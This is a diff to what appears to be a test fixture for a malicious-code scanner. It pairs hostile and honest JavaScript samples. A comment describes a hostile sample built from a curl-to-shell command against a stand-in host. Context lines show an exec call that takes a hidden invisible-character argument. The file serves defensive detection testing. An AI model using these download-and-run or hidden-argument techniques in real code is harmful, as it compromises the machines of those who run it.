@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs'
 import type { Technique } from './techniques.ts'
 
 const main = (text: string) => ({ files: { 'index.js': text } })
@@ -32,5 +33,16 @@ export const obfuscators: readonly Technique[] = [
       `const { exec } = require('child_process'); exports.run = (x, { cmd, \u3164 }) => exec([cmd, \u3164].join(' '))`,
     ),
     honest: main(`exports.blank = '\u3164'; exports.gruß = 'hallo'; exports.名 = 1`),
+  },
+  {
+    name: 'the preset `high` of javascript-obfuscator 5.8.0, whose strings are worked out all the same',
+    rule: 'code/runs-downloads',
+    // Made of `require('child_process').exec('curl http://drop.invalid/a | sh')`.
+    hostile: main(readFileSync(new URL('obfuscator-5.8.0-high.txt', import.meta.url), 'utf8')),
+    honest: main(
+      `function Reader(bytes){this.bytes=bytes;this.at=0}
+      Reader.prototype.text=function(){var out='';while(this.at<this.bytes.length)out+=String.fromCharCode(this.bytes[this.at++]);return out}
+      exports.magic=new Reader([80,75,3,4]).text();exports.isPlain=new RegExp('\\\\w+ *').test(String(function(){}))`,
+    ),
   },
 ]
